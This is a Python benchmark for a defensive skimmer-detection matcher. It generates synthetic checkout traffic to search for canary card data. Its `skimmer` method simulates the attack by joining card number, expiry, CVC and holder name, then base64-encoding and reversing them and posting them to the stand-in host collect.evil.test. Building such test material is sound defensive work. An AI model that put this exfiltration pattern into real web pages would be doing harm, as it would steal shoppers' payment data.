"""Canary search over a recorded journey's outbound traffic: skimguard's exfil matcher vs. substring.

A stand-in for one recorded checkout journey, generated deterministically (seeded): static asset
GETs, analytics beacons with long query strings (GA4- and pixel-style) and sendBeacon bodies, RUM /
error-tracking JSON, JSON API calls of 0.5-20 KB, form posts, a few gzip-compressed session-replay
chunks, and exactly one skimmer beacon that carries the canary card as reversed base64. Only what
leaves the page is searched: request URL, request headers and request body, one item each
(responses, e.g. 100-300 KB JS bundles, are not outbound and are not part of the haystack).

Timed: ``Matcher.search`` over all items (the matcher is built once, outside the timing; median of
5 runs) against a plain substring search for the raw canary card number (``value in item``), for
500 and for 5,000 requests. Target: under 20 ms for 500 requests on a 2-core machine, and linear
scaling (time ratio 5,000/500 close to the byte ratio).

    .venv/bin/python bench/exfil_match.py [--runs 5] [--profile]
"""

from __future__ import annotations

import argparse
import base64
import cProfile
import functools
import gzip
import json
import pstats
import random
import statistics
import string
import time
from collections.abc import Callable
from urllib.parse import quote, urlencode

from skimguard.exfil.match import CanaryValue, Hit, Matcher

CARD = "4111112837465922"  # Luhn-valid, visa test range (a canary, never a real card)
TAG = "qmvzkd"
CANARY = {
    "card_number": CARD,
    "expiry": "07/29",
    "cvc": "418",
    "holder": f"TARO {TAG.upper()}",
    "email": f"taro.{TAG}@example.jp",
    "phone": "090-4417-2093",
    "postal_code": "101-0047",
    "address": f"千代田区神田3-12 {TAG}ビル",
    "password": f"Sg-{TAG}-5081!",
    "name": f"山田 {TAG}",
}
SHORT = {"cvc": 6, "expiry": 6}

UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
PAGES = ["/", "/cart", "/checkout/address", "/checkout/shipping", "/checkout/payment", "/checkout/confirm"]
TITLES = ["トップ", "カート", "お届け先の入力", "配送方法", "お支払い方法", "ご注文内容の確認"]
PRODUCTS = [
    "オーガニック緑茶 100g",
    "手作り湯のみ 青",
    "Kyoto Incense Sticks (Sandalwood)",
    "竹の箸 5膳セット",
    "Linen Noren Curtain 85x150",
    "南部鉄器 急須 0.65L",
    "Matcha Whisk Set",
    "有田焼 小皿 4枚組",
]
VIEWS = ["main", "thumb", "zoom"]
APIS = ["cart", "cart/items", "shipping/options", "recommendations", "checkout/session"]
WORDS = [
    *[
        "the",
        "quick",
        "brown",
        "fox",
        "jumps",
        "over",
        "lazy",
        "dog",
        "shipping",
        "address",
        "payment",
        "order",
        "total",
        "price",
        "tax",
    ],
    *["discount", "coupon", "delivery", "standard", "express", "gift", "wrapping", "message", "stock", "available"],
]


def _hex(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def _token(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(n))


def _uuid(rng: random.Random) -> str:
    h = _hex(rng, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


class Journey:
    """One recorded journey's session state (ids, cookies) and request generators."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.cid = f"{rng.randrange(10**9)}.{rng.randrange(1_690_000_000, 1_720_000_000)}"
        self.sid = str(rng.randrange(1_690_000_000, 1_720_000_000))
        self.session = _token(rng, 32)
        self.cart = _uuid(rng)
        self.jwt = (
            ".".join(
                base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=")
                for part in (
                    {"alg": "HS256", "typ": "JWT"},
                    {
                        "sub": f"guest-{_hex(rng, 12)}",
                        "cart": self.cart,
                        "exp": 1_760_000_000,
                        "scope": "cart checkout",
                    },
                )
            )
            + "."
            + _token(rng, 43)
        )
        self.ts = 1_717_000_000_000
        self.fbp = f"fb.1.{self.ts - 86_400_000}.{rng.randrange(10**9)}"  # cookies and tokens live per session
        self.csrf = _token(rng, 40)

    def page(self) -> tuple[str, str]:
        i = self.rng.randrange(len(PAGES))
        return PAGES[i], TITLES[i]

    def headers(self, url: str, *, referer: str, extra: dict[str, str] | None = None, cookies: bool = False) -> bytes:
        h = {
            "Host": url.split("/")[2],
            "User-Agent": UA,
            "Accept": "*/*",
            "Accept-Language": "ja-JP,ja;q=0.9,en-US;q=0.8,en;q=0.7",
            "Accept-Encoding": "gzip, deflate, br, zstd",
            "sec-ch-ua": '"Chromium";v="126", "Google Chrome";v="126", "Not-A.Brand";v="8"',
            "sec-ch-ua-mobile": "?0",
            "sec-ch-ua-platform": '"Linux"',
            "Sec-Fetch-Site": "same-origin",
            "Sec-Fetch-Mode": "cors",
            "Sec-Fetch-Dest": "empty",
            "Referer": referer,
        }
        if cookies:
            h["Cookie"] = (
                f"PHPSESSID={self.session}; cart_id={self.cart}; _ga=GA1.1.{self.cid}; "
                f"_ga_X7K2P9Q1RZ=GS1.1.{self.sid}.3.1.{self.sid}.0.0.0; _fbp={self.fbp}; "
                f"consent=%7B%22analytics%22%3Atrue%2C%22ads%22%3Afalse%7D"
            )
        h.update(extra or {})
        return "".join(f"{k}: {v}\r\n" for k, v in h.items()).encode()

    def static_get(self) -> tuple[bytes, bytes, bytes]:
        rng = self.rng
        path, _ = self.page()
        host = rng.choice(["shop.test", "cdn.shop.test", "fonts.gstatic.test", "cdn.vendor.test"])
        kind = rng.choice(["js", "css", "png", "webp", "woff2", "svg"])
        url = (
            f"https://{host}/assets/{rng.choice(['app', 'vendor', 'checkout', 'icons', 'hero'])}.{_hex(rng, 8)}.{kind}"
        )
        if rng.random() < 0.5:
            url += f"?v={_hex(rng, 10)}"
        return url.encode(), self.headers(url, referer=f"https://shop.test{path}", cookies=host == "shop.test"), b""

    def ga_beacon(self) -> tuple[bytes, bytes, bytes]:
        rng = self.rng
        path, title = self.page()
        self.ts += rng.randrange(50, 5000)
        params = {
            "v": "2",
            "tid": "G-X7K2P9Q1RZ",
            "gtm": f"45je4{_hex(rng, 4)}v9{rng.randrange(10**9)}za200",
            "_p": str(self.ts),
            "gcd": "13l3l3l3l1",
            "npa": "0",
            "dma": "0",
            "cid": self.cid,
            "ul": "ja-jp",
            "sr": "1920x1080",
            "uaa": "x86",
            "uab": "64",
            "uafvl": "Chromium;126.0.6478.126|Google%20Chrome;126.0.6478.126",
            "uamb": "0",
            "uap": "Linux",
            "uapv": "6.5.0",
            "are": "1",
            "frm": "0",
            "pscdl": "noapi",
            "_s": str(rng.randrange(1, 40)),
            "sid": self.sid,
            "sct": "3",
            "seg": "1",
            "dl": f"https://shop.test{path}?utm_source=newsletter&utm_medium=email&utm_campaign=summer_sale_2024",
            "dr": "https://www.search.test/",
            "dt": f"{title} | 和雑貨の店 さくら",
            "en": rng.choice(
                ["page_view", "scroll", "user_engagement", "begin_checkout", "add_shipping_info", "add_payment_info"]
            ),
            "_et": str(rng.randrange(10, 90000)),
            "tfd": str(rng.randrange(1000, 60000)),
        }
        for i in range(rng.randrange(0, 6)):
            params[f"ep.item_{i}"] = rng.choice(PRODUCTS)
            params[f"epn.price_{i}"] = str(rng.randrange(300, 30000))
        url = "https://region1.analytics.test/g/collect?" + urlencode(params, quote_via=quote)
        return (
            url.encode(),
            self.headers(
                url,
                referer=f"https://shop.test{path}",
                extra={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"},
            ),
            b"",
        )

    def pixel(self) -> tuple[bytes, bytes, bytes]:
        rng = self.rng
        path, _ = self.page()
        self.ts += rng.randrange(50, 5000)
        cd = json.dumps(
            {
                "content_ids": [f"sku-{rng.randrange(10000)}" for _ in range(rng.randrange(1, 4))],
                "value": rng.randrange(500, 50000),
                "currency": "JPY",
            }
        )
        url = "https://www.pixel.test/tr/?" + urlencode(
            {
                "id": str(rng.randrange(10**15)),
                "ev": rng.choice(["PageView", "InitiateCheckout", "AddPaymentInfo"]),
                "dl": f"https://shop.test{path}",
                "rl": "https://shop.test/cart",
                "if": "false",
                "ts": str(self.ts),
                "cd": cd,
                "sw": "1920",
                "sh": "1080",
                "v": "2.9.156",
                "r": "stable",
                "ec": str(rng.randrange(9)),
                "o": "4126",
                "fbp": f"fb.1.{self.ts}.{rng.randrange(10**9)}",
                "it": str(self.ts - 1234),
                "coo": "false",
                "rqm": "GET",
            }
        )
        return (
            url.encode(),
            self.headers(url, referer=f"https://shop.test{path}", extra={"Sec-Fetch-Site": "cross-site"}),
            b"",
        )

    def beacon_body(self) -> tuple[bytes, bytes, bytes]:
        rng = self.rng
        path, _ = self.page()
        lines = []
        for _ in range(rng.randrange(2, 12)):
            self.ts += rng.randrange(50, 3000)
            lines.append(
                urlencode(
                    {
                        "en": rng.choice(["scroll", "user_engagement", "view_item", "form_start", "form_submit"]),
                        "_et": str(rng.randrange(10, 90000)),
                        "epn.percent_scrolled": str(rng.choice([25, 50, 75, 90])),
                        "ep.form_id": rng.choice(["address-form", "payment-form", "coupon"]),
                        "ep.page": f"https://shop.test{path}",
                        "_ts": str(self.ts),
                    },
                    quote_via=quote,
                )
            )
        url = (
            f"https://region1.analytics.test/g/collect?v=2&tid=G-X7K2P9Q1RZ&cid={self.cid}&sid={self.sid}&_p={self.ts}"
        )
        return (
            url.encode(),
            self.headers(url, referer=f"https://shop.test{path}", extra={"Content-Type": "text/plain;charset=UTF-8"}),
            "\r\n".join(lines).encode(),
        )

    def rum(self) -> tuple[bytes, bytes, bytes]:
        rng = self.rng
        path, _ = self.page()
        events = []
        for _ in range(rng.randrange(1, 25)):
            self.ts += rng.randrange(5, 500)
            ev: dict[str, object] = {
                "type": rng.choice(["resource", "long_task", "action", "error", "view"]),
                "date": self.ts,
                "session": {"id": _uuid(rng), "type": "user"},
                "view": {"id": _uuid(rng), "url": f"https://shop.test{path}", "referrer": "https://shop.test/cart"},
                "resource": {
                    "url": f"https://cdn.shop.test/assets/app.{_hex(rng, 8)}.js",
                    "duration": rng.randrange(10**6, 10**9),
                    "size": rng.randrange(10**3, 10**6),
                },
                "_dd": {"format_version": 2, "drift": rng.randrange(5), "browser_sdk_version": "5.21.0"},
            }
            if ev["type"] == "error":
                ev["error"] = {
                    "message": "TypeError: Cannot read properties of undefined (reading 'price')",
                    "stack": "\n".join(
                        f"    at {rng.choice(WORDS)}{rng.choice(['Handler', 'Render', 'Update'])} "
                        f"(https://cdn.shop.test/assets/checkout.{_hex(rng, 8)}.js:1:{rng.randrange(99999)})"
                        for _ in range(rng.randrange(3, 12))
                    ),
                }
            events.append(json.dumps(ev, ensure_ascii=False))
        url = (
            "https://browser-intake.rum.test/api/v2/rum?ddsource=browser"
            "&ddtags=sdk_version%3A5.21.0%2Capi%3Afetch%2Cenv%3Aprod"
            f"&dd-api-key=pub{_hex(rng, 32)}&dd-evp-origin=browser&dd-request-id={_uuid(rng)}"
        )
        return (
            url.encode(),
            self.headers(
                url,
                referer=f"https://shop.test{path}",
                extra={"Content-Type": "text/plain;charset=UTF-8", "Sec-Fetch-Site": "cross-site"},
            ),
            "\n".join(events).encode(),
        )

    def api_call(self) -> tuple[bytes, bytes, bytes]:
        rng = self.rng
        path, _ = self.page()
        target = int(500 * (40 ** rng.random()))  # log-uniform 0.5 .. 20 KB
        items: list[dict[str, object]] = []
        body = b""
        while len(body) < target:
            name = rng.choice(PRODUCTS)
            items.append(
                {
                    "id": _uuid(rng),
                    "sku": f"SKU-{rng.randrange(10**6):06d}",
                    "name": name,
                    "slug": "-".join(rng.sample(WORDS, 3)),
                    "price": rng.randrange(300, 30000),
                    "quantity": rng.randrange(1, 4),
                    "tax_rate": 0.1,
                    "image": f"https://cdn.shop.test/images/products/{_hex(rng, 16)}/{rng.choice(VIEWS)}.webp",
                    "description": " ".join(rng.choice(WORDS) for _ in range(rng.randrange(5, 40))),
                    "tags": rng.sample(WORDS, 4),
                    "updated_at": f"2024-06-{rng.randrange(1, 29):02d}T{rng.randrange(24):02d}:00:00+09:00",
                }
            )
            doc = {
                "cart_id": self.cart,
                "currency": "JPY",
                "items": items,
                "csrf": self.csrf,
                "page": f"https://shop.test{path}",
            }
            if rng.random() < 0.3:  # PHP-style encoding: escaped slashes and \\u escapes
                body = json.dumps(doc).replace("/", "\\/").encode()
            else:
                body = json.dumps(doc, ensure_ascii=False).encode()
        url = f"https://shop.test/api/{rng.choice(APIS)}"
        return (
            url.encode(),
            self.headers(
                url,
                referer=f"https://shop.test{path}",
                cookies=True,
                extra={
                    "Content-Type": "application/json",
                    "Authorization": f"Bearer {self.jwt}",
                    "X-CSRF-Token": self.csrf,
                    "X-Request-Id": _uuid(rng),
                    "Origin": "https://shop.test",
                },
            ),
            body,
        )

    def form_post(self) -> tuple[bytes, bytes, bytes]:
        rng = self.rng
        body = urlencode(
            {
                "_token": self.csrf,
                "shipping[name]": "佐藤 花子",
                "shipping[postal]": "530-0001",
                "shipping[pref]": "大阪府",
                "shipping[city]": "大阪市北区梅田1-1-3",
                "shipping[tel]": "06-6345-1201",
                "shipping[method]": rng.choice(["standard", "express"]),
                "gift": rng.choice(["0", "1"]),
                "note": " ".join(rng.sample(WORDS, 6)),
            }
        )
        url = "https://shop.test/checkout/address"
        return (
            url.encode(),
            self.headers(
                url,
                referer=url,
                cookies=True,
                extra={
                    "Content-Type": "application/x-www-form-urlencoded",
                    "Origin": "https://shop.test",
                    "Sec-Fetch-Mode": "navigate",
                    "Sec-Fetch-Dest": "document",
                },
            ),
            body.encode(),
        )

    def replay(self) -> tuple[bytes, bytes, bytes]:
        rng = self.rng
        path, _ = self.page()
        events = [
            {
                "t": self.ts + i * rng.randrange(5, 80),
                "type": rng.choice([2, 3, 3, 3, 4]),
                "data": {
                    "source": rng.randrange(6),
                    "x": rng.randrange(1920),
                    "y": rng.randrange(1080),
                    "id": rng.randrange(4000),
                    "text": rng.choice(WORDS),
                },
            }
            for i in range(rng.randrange(20, 300))
        ]
        body = gzip.compress(json.dumps(events).encode(), mtime=0)
        page = quote("https://shop.test" + path, safe="")
        url = f"https://replay.recorder.test/v1/ingest?site=8841&session={_uuid(rng)}&page={page}"
        return (
            url.encode(),
            self.headers(
                url,
                referer=f"https://shop.test{path}",
                extra={
                    "Content-Type": "application/octet-stream",
                    "Content-Encoding": "gzip",
                    "Sec-Fetch-Site": "cross-site",
                },
            ),
            body,
        )

    def skimmer(self) -> tuple[bytes, bytes, bytes]:
        """The attack: card data joined, base64, reversed, sent in a beacon body (the classic)."""
        joined = "|".join(
            [
                CANARY["card_number"],
                CANARY["expiry"],
                CANARY["cvc"],
                CANARY["holder"],
                "https://shop.test/checkout/payment",
            ]
        )
        payload = base64.b64encode(joined.encode()).decode()[::-1]
        url = "https://collect.evil.test/api/v1/metrics"
        body = json.dumps({"v": 3, "sid": _token(self.rng, 20), "m": payload, "ts": self.ts}).encode()
        return (
            url.encode(),
            self.headers(
                url,
                referer="https://shop.test/checkout/payment",
                extra={"Content-Type": "text/plain;charset=UTF-8", "Sec-Fetch-Site": "cross-site"},
            ),
            body,
        )


KINDS: list[tuple[str, float]] = [
    ("static_get", 0.45),
    ("ga_beacon", 0.14),
    ("pixel", 0.06),
    ("beacon_body", 0.06),
    ("rum", 0.05),
    ("api_call", 0.15),
    ("form_post", 0.05),
    ("replay", 0.04),
]


def journey_items(n_requests: int, seed: int = 1) -> list[bytes]:
    """Outbound items of ``n_requests`` requests: URL, headers and (when there is one) body."""
    rng = random.Random(seed)
    j = Journey(rng)
    names = [k for k, _ in KINDS]
    weights = [w for _, w in KINDS]
    evil_at = rng.randrange(n_requests // 2, n_requests)
    items: list[bytes] = []
    for i in range(n_requests):
        kind = "skimmer" if i == evil_at else rng.choices(names, weights)[0]
        url, headers, body = getattr(j, kind)()
        items.extend([url, headers] + ([body] if body else []))
    return items


def canary_values() -> list[CanaryValue]:
    return [CanaryValue(name, value, SHORT.get(name, 0)) for name, value in CANARY.items()]


def timed_ms(fn: Callable[[], object], runs: int) -> tuple[float, float]:
    """(median, best) of ``runs`` timings, in ms."""
    times = []
    for _ in range(runs):
        t0 = time.perf_counter()
        fn()
        times.append((time.perf_counter() - t0) * 1000)
    return statistics.median(times), min(times)


def substring(items: list[bytes]) -> list[int]:
    needle = CARD.encode()
    return [i for i, item in enumerate(items) if needle in item]


def composition(items: list[bytes]) -> str:
    urls = sum(len(i) for i in items if i.startswith(b"https://"))
    headers = sum(len(i) for i in items if i.startswith(b"Host: "))
    gz = sum(len(i) for i in items if i.startswith(b"\x1f\x8b"))
    bodies = sum(map(len, items)) - urls - headers
    kb = [f"{x / 1e3:.0f} KB" for x in (urls, headers, bodies, gz)]
    return f"URLs {kb[0]}, headers {kb[1]}, bodies {kb[2]} (gzip {kb[3]})"


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--runs", type=int, default=5)
    ap.add_argument("--profile", action="store_true", help="cProfile 20 searches of the 500-request journey")
    args = ap.parse_args()
    t0 = time.perf_counter()
    matcher = Matcher(canary_values())  # built once per scan, outside the timing
    print(f"matcher built in {(time.perf_counter() - t0) * 1000:.1f} ms ({len(matcher.needles)} needles)")
    rows = []
    for n in (500, 5000):
        items = journey_items(n)
        size = sum(map(len, items))
        hits: list[Hit] = matcher.search(items)  # warm-up, and the hits to show
        assert {(h.value, h.chain) for h in hits} == {
            (v, ("reverse", "base64")) for v in ("card_number", "expiry", "cvc", "holder")
        }, hits
        ms, best = timed_ms(functools.partial(matcher.search, items), args.runs)
        base, base_best = timed_ms(functools.partial(substring, items), args.runs)
        rows.append((n, size, ms))
        print(f"{n:>5} requests, {len(items)} items, {size / 1e6:.2f} MB scanned: {composition(items)}")
        print(f"      matcher    median {ms:8.2f} ms (best {best:7.2f})  {size / ms / 1e3:6.1f} MB/s")
        print(f"      substring  median {base:8.2f} ms (best {base_best:7.2f})  {size / base / 1e3:6.1f} MB/s")
        print(f"      matcher / substring: {ms / base:.0f}x median, {best / base_best:.0f}x best")
        found = sorted({h.item for h in hits})
        print(f"      matcher hits: items {found}: " + ", ".join(f"{h.value} via {'/'.join(h.chain)}" for h in hits))
        print(f"      substring hits (raw card number): {substring(items)}")
    (n0, s0, m0), (n1, s1, m1) = rows
    linear = m1 / m0 / (s1 / s0)
    print(f"scaling {n1}/{n0}: bytes x{s1 / s0:.2f}, time x{m1 / m0:.2f} (time/bytes {linear:.2f}; 1.00 = linear)")
    print(f"target: 500 requests under 20 ms: {'met' if m0 < 20 else 'missed'} (median {m0:.2f} ms)")
    if args.profile:
        items = journey_items(500)
        prof = cProfile.Profile()
        prof.enable()
        for _ in range(20):
            matcher.search(items)
        prof.disable()
        pstats.Stats(prof).sort_stats("tottime").print_stats(20)


if __name__ == "__main__":
    main()
